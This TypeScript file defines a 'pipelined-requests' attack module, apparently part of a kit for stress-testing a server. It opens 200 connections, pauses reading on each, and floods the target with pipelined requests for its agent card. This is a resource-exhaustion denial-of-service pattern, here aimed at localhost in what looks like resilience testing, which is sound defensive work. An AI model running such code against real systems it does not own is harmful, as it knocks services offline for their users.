import type { Attack } from "./kit/attack.ts";
import { deadline, hold, openSockets, send } from "./kit/sockets.ts";

const CONNECTIONS = 200;
const AT_ONCE = 500;
const REQUESTS = 20_000;

export const pipelinedRequests: Attack = {
  name: "pipelined-requests",
  what: `${CONNECTIONS} connections ask for the card again and again, and read nothing`,
  async run(target) {
    const isOver = deadline(target);
    const sockets = await openSockets(target.httpPort, CONNECTIONS);
    const requests = "GET /.well-known/agent-card.json HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n".repeat(AT_ONCE);
    await Promise.all(
      sockets.map(async (socket) => {
        socket.pause();
        for (let done = 0; done < REQUESTS && !isOver(); done += AT_ONCE) {
          if (!(await send(target, socket, requests))) return;
        }
      }),
    );
    await hold(isOver);
  },
};
